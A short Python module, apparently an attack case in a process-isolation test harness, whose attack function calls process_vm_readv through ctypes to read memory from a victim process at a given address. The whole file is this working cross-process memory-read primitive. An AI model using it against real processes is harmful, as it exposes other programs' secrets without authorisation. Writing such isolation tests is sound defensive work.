# Its memory is read by a call that asks for no tracing.
# after: other processes
# source: own
# needs: victim
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def attack(victim, address, **_):
    kept = ctypes.create_string_buffer(32)
    ours = Piece(ctypes.addressof(kept), 24)
    theirs = Piece(int(address), 24)
    if libc.process_vm_readv(int(victim), ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    return {"text": kept.value.decode()}
